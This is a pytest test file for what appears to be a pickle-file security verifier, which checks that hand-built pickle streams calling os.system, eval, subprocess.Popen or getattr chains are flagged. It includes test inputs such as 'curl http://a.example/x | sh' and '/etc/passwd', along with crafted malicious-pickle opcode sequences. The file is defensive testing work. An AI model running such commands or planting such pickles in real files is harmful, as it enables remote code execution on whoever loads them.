from __future__ import annotations

import copy
import pickle
from collections import Counter, OrderedDict, defaultdict, deque
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from functools import partial
from pathlib import PurePosixPath
from types import SimpleNamespace

import numpy as np
import pytest

from tests.builders.inspections import context, only
from tests.builders.opcodes import call, mapping, name, pickled, value
from verifier.errors import BudgetExceeded
from verifier.formats import Member, _pickle
from verifier.formats._pickle import judge
from verifier.formats._pickle.inspection import inspect_stream
from verifier.formats._pickle.place import Loader
from verifier.formats._readers import BytesReader
from verifier.records import Artifact, Finding

BUILD = b"b"
POP = b"0"


def found(data: bytes, local: frozenset[str] = frozenset()) -> list[Finding]:
    """What one stream gives reason for."""
    loader = Loader(local=local)
    stream = inspect_stream(Artifact("a.pkl", len(data)), BytesReader(data), context(), how="pickle/1", loader=loader)
    return list(only(list(stream), Finding))


def rules(body: bytes, protocol: int = 2) -> list[str]:
    return [finding.rule for finding in found(pickled(body, protocol))]


def new(module: str, qualname: str, *arguments: str | int) -> bytes:
    return name(module, qualname) + value(arguments) + b"\x81"


STANDARD = [
    OrderedDict(a=1),
    defaultdict(list, a=[1]),
    Counter("aab"),
    deque([1, 2], 5),
    {1, 2},
    frozenset([3]),
    complex(1, 2),
    range(3),
    slice(1, None),
    bytearray(b"x"),
    b"bytes",
    datetime(2026, 1, 2, tzinfo=UTC),
    timedelta(3),
    Decimal("1.5"),
    PurePosixPath("a/b"),
    partial(max, 1),
    SimpleNamespace(a=1),
    ValueError("text"),
    iter([1, 2]),
    type(None),
    ...,
]


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("thing", STANDARD, ids=lambda thing: type(thing).__name__)
def test_what_picklers_write_of_the_standard_library_is_quiet(thing: object, protocol: int) -> None:
    assert found(pickle.dumps(copy.copy(thing) if isinstance(thing, deque) else thing, protocol)) == []


@pytest.mark.parametrize("path", ["/a/file", b"file", PurePosixPath("file")])
def test_a_class_is_not_kept_with_the_name_of_a_file_to_be_made_later(path: object) -> None:
    many: list[object] = [partial(np.memmap, filename=path), defaultdict(partial(np.memmap, path))]
    for kept in many:
        assert {finding.rule for finding in found(pickle.dumps(kept, 2))} == {_pickle.UNSAFE_STATE}
    assert found(pickle.dumps(partial(np.memmap, mode="r", offset=8), 2)) == []


def test_a_dangerous_call_names_symbol_arguments_and_effect() -> None:
    (finding,) = found(pickled(call("os", "system", "echo inert")))
    assert finding.rule == _pickle.DANGEROUS
    assert finding.message.startswith("os.system('echo inert') is called; it ")
    assert dict(finding.parameters)["symbol"] == "os.system"
    assert dict(finding.parameters)["arguments"] == "('echo inert',)"
    assert finding.evidence[0].offset == pickled(call("os", "system", "echo inert")).index(b"R")


def test_an_import_that_nothing_calls_is_reported_where_it_stands() -> None:
    (finding,) = found(pickled(b"]" + name("os", "system") + b"a"))
    assert (finding.rule, finding.evidence[0].offset) == (_pickle.DANGEROUS, 3)
    assert "is imported" in finding.message


def test_a_call_whose_result_is_thrown_away_is_still_one() -> None:
    assert rules(call("os", "system", "echo inert") + POP + b"N") == [_pickle.DANGEROUS]


@pytest.mark.parametrize(
    ("module", "symbol", "rule"),
    [
        ("numbers", "os.system", _pickle.DANGEROUS),
        ("collections.abc", "sys.modules.get", _pickle.DANGEROUS),
        ("this", "s", _pickle.UNLISTED),
        ("torch._lobpcg", "lobpcg", _pickle.UNLISTED),
        ("numpy", "apply_along_axis", _pickle.UNLISTED),
        ("__builtin__", "eval", _pickle.DANGEROUS),
        ("unheard", "Model", _pickle.UNKNOWN),
        ("unheard.models", "Outer.Inner", _pickle.UNKNOWN),
        ("unheard", "helpers.Model", _pickle.WALKED),
        ("unheard", "os.system", _pickle.DANGEROUS),
        ("__main__", "Net", _pickle.UNKNOWN),
        ("os ", "system", _pickle.UNKNOWN),
    ],
)
def test_what_is_not_listed(module: str, symbol: str, rule: str) -> None:
    assert rules(call(module, symbol), 4) == [rule]


@pytest.mark.parametrize(
    "text",
    ["curl http://a.example/x | sh", "import os", "/etc/passwd", "__import__('x')", "subprocess.Popen", "sh -c x"],
)
def test_what_nobody_reviewed_with_arguments_that_show_what_it_is_for(text: str) -> None:
    assert rules(call("unheard", "run", text)) == [_pickle.INTENT]


@pytest.mark.parametrize("text", ["relu", "a sentence, like any other; or two", "1.0", "bert-base/uncased", "os"])
def test_ordinary_texts_show_nothing(text: str) -> None:
    assert rules(call("unheard", "Model", text)) == [_pickle.UNKNOWN]


@pytest.mark.parametrize(
    ("body", "what"),
    [
        (call("collections", "OrderedDict", "id"), "picklers write"),
        (call("collections", "OrderedDict", 1, 2), "picklers write"),
        (call("collections", "defaultdict", name("os", "system")), None),
        (new("collections", "OrderedDict", 1), "no pickler writes"),
        (call("_codecs", "encode", "text", "utf-8"), "picklers write"),
        (call("functools", "partial", name("os", "system")), None),
        (call("copyreg", "__newobj__", name("subprocess", "Popen"), "id"), None),
        (call("builtins", "getattr", name("collections", "OrderedDict"), "__reduce__"), None),
        (call("builtins", "getattr", call("collections", "OrderedDict"), "clear"), "picklers write"),
        (call("torch._utils", "_rebuild_tensor_v2", "id"), "picklers write"),
        (
            call("torch.storage", "_load_from_bytes", call("_codecs", "encode", call("a", "b"), "latin1")),
            "not written out",
        ),
        (name("collections", "OrderedDict") + b"]R", "instead of a tuple"),
        (name("datetime", "tzinfo") + b")R", "no pickler uses it so"),
    ],
)
def test_listed_names_used_as_no_pickler_does(body: bytes, what: str | None) -> None:
    findings = found(pickled(body))
    assert {finding.rule for finding in findings} & {_pickle.UNSAFE_CALL, _pickle.DANGEROUS, _pickle.UNLISTED}
    assert what is None or any(what in finding.message for finding in findings if finding.rule == _pickle.UNSAFE_CALL)


def test_an_unsafe_call_of_a_function_with_known_dangers_says_what_it_would_do() -> None:
    unsafe, unlisted = found(pickled(call("builtins", "getattr", call("collections", "OrderedDict"), "clear")))
    assert "; such a call " in unsafe.message
    assert unlisted.rule == _pickle.UNLISTED


def test_keyword_arguments_that_no_pickler_writes() -> None:
    body = name("collections", "OrderedDict") + b")" + mapping({"key": value(1)}) + b"\x92"
    assert rules(body, 4) == [_pickle.UNSAFE_CALL]
    assert rules(name("collections", "OrderedDict") + b")}\x92", 4) == []


def test_what_a_call_returned_is_called() -> None:
    body = call("collections", "OrderedDict") + value(("id",)) + b"R"
    assert rules(body) == [_pickle.UNSAFE_CALL]
    assert rules(call("unheard", "factory") + b")R") == [_pickle.UNKNOWN]


def test_nested_classes_of_protocol_2_are_the_names_they_stand_for() -> None:
    inner = call("builtins", "getattr", name("unheard", "Outer"), "Inner")
    assert sorted(finding.message.split()[0] for finding in found(pickled(inner + b")\x81"))) == [
        "unheard.Outer",
        "unheard.Outer.Inner()",
    ]
    assert _pickle.DANGEROUS in rules(call("builtins", "getattr", name("unheard", "os"), "system") + b")R")
    assert rules(call("builtins", "getattr", name("uuid", "SafeUUID"), "safe")) == []


def test_state_set_on_what_is_imported_changes_it_for_all() -> None:
    body = name("collections", "OrderedDict") + mapping({"__module__": value("x")}) + BUILD
    (finding,) = found(pickled(body))
    assert finding.rule == _pickle.UNSAFE_STATE
    assert "collections.OrderedDict itself" in finding.message


@pytest.mark.parametrize(
    "body",
    [
        call("decimal", "Decimal", "1") + mapping({"a": value(1)}) + BUILD,
        call("collections", "OrderedDict") + value("text") + BUILD,
        new("uuid", "UUID") + value((1, 2)) + BUILD,
        call("decimal", "Decimal", "1") + value(1) + b"a",
        call("decimal", "Decimal", "1") + value(1) + value(2) + b"s",
        call("collections", "OrderedDict") + value(1) + b"a",
        name("collections", "deque") + value(1) + b"a",
    ],
)
def test_state_and_elements_no_pickler_writes(body: bytes) -> None:
    assert rules(body) == [_pickle.UNSAFE_STATE]


def test_every_use_of_what_nobody_reviewed_is_named_as_a_policy_would() -> None:
    body = new("unheard", "Model", "x", 1) + mapping({"a": value(1)}) + BUILD + POP + b"]" + name("unheard", "f") + b"a"
    uses = [dict(finding.parameters)["use"] for finding in found(pickled(body))]
    assert uses == ["new(str, int)", "build(dict)", "import"]
    many = found(pickled(call("unheard", "f", *range(20))))
    assert str(dict(many[0].parameters)["use"]).endswith("int, …)")
    computed = found(pickled(name("unheard", "f") + call("unheard", "g") + b"R"))
    assert [dict(finding.parameters)["use"] for finding in computed] == ["call()", "call(result)"]


def test_modules_of_the_archive_itself_are_its_own() -> None:
    local = frozenset({"__torch__.m"})
    body = name("__torch__.m", "M") + b")\x81" + mapping({"training": value(False)}) + BUILD
    assert found(pickled(body), local) == []
    assert {finding.rule for finding in found(pickled(body))} == {_pickle.UNKNOWN}


def test_calls_that_functions_of_torch_make_in_turn_are_judged() -> None:
    inner = name("os", "system") + name("torch", "Tensor") + value(("id",)) + b"}"
    body = name("torch._tensor", "_rebuild_from_type_v2") + b"(" + inner + b"tR"
    assert _pickle.DANGEROUS in rules(body)


def test_a_constant_that_is_loaded_as_a_file_goes_back_to_be_inspected() -> None:
    content = b"whatever it is"
    data = pickled(name("torch.storage", "_load_from_bytes") + b"C" + bytes([len(content)]) + content + b"\x85R", 3)
    records = list(inspect_stream(Artifact("a", len(data)), BytesReader(data), context(), how="pickle/1"))
    (member,) = only(records, Member)
    assert member.reader.read_at(0, 100) == content
    assert list(only(records, Finding)) == []


def test_repeated_reasons_are_counted_and_many_different_ones_end_the_walk() -> None:
    again = found(pickled(b"](" + call("os", "system", "echo inert") * 25 + b"e"))
    assert len(again) == judge.REPEATS + 1
    assert "25 times in all" in again[-1].message
    many = b"](" + b"".join(call("unheard", f"f{at}") for at in range(judge.SUBJECTS + 1)) + b"e"
    with pytest.raises(BudgetExceeded, match="different reasons"):
        found(pickled(many))


def test_imports_beyond_those_that_wait_are_reported_at_once() -> None:
    imports = b"](" + b"".join(name("unheard", f"f{at}") for at in range(judge.SUBJECTS + 1)) + b"e"
    with pytest.raises(BudgetExceeded, match="different reasons"):
        found(pickled(imports))


def test_what_was_seen_before_a_limit_is_reported() -> None:
    from verifier.formats import Limits

    data = pickled(b"](" + call("os", "system", "echo inert") + b"K\x01" * 100_000 + b"e")
    records = inspect_stream(
        Artifact("a", len(data)), BytesReader(data), context(limits=Limits(steps=50_000)), how="pickle/1"
    )
    seen: list[Finding | Member] = []
    with pytest.raises(BudgetExceeded):
        seen.extend(records)
    assert [finding.rule for finding in only(seen, Finding)] == [_pickle.DANGEROUS]


def test_persistent_classes_of_old_torch_files_are_judged_as_themselves() -> None:
    cls = value(("module", name("torch.nn.modules.linear", "Linear"), "linear.py", "class Linear: ...")) + b"Q"
    rules_found = rules(cls + b")\x81" + mapping({"training": value(True)}) + BUILD)
    assert rules_found == ["pickle-persistent-id"]


def test_persistent_ids_need_a_loader_and_extension_codes_a_process() -> None:
    assert rules(value("key") + b"Q") == ["pickle-persistent-id"]
    assert rules(b"\x82\x05") == ["pickle-extension-code"]
    many = found(pickled(b"](" + (value("key") + b"Q") * 2000 + b"e"))
    assert len(many) == judge.REPEATS + 1
    assert many[-1].message == "a persistent id gives this reason 2000 times in all; 10 of them are listed"
    stream = pickled(value("key") + b"Q")
    loader = Loader(persistent=True)
    assert list(inspect_stream(Artifact("a", 1), BytesReader(stream), context(), how="x/1", loader=loader)) == []


@pytest.mark.parametrize("content", [bytes(range(256)), bytes(range(256)) * 100])
@pytest.mark.parametrize("protocol", [2, 3, 5])
def test_what_is_loaded_as_a_file_is_the_same_bytes_in_every_protocol(content: bytes, protocol: int) -> None:
    stream = pickle.dumps(content, protocol)[2:-1]
    stream = stream.removeprefix(stream[:9]) if stream[:1] == b"\x95" else stream
    data = pickled(name("torch.storage", "_load_from_bytes") + stream + b"\x85R", protocol)
    records = list(inspect_stream(Artifact("a", len(data)), BytesReader(data), context(), how="pickle/1"))
    (member,) = only(records, Member)
    assert member.reader.read_at(0, member.reader.size) == content
    assert member.artifact.size == len(content)
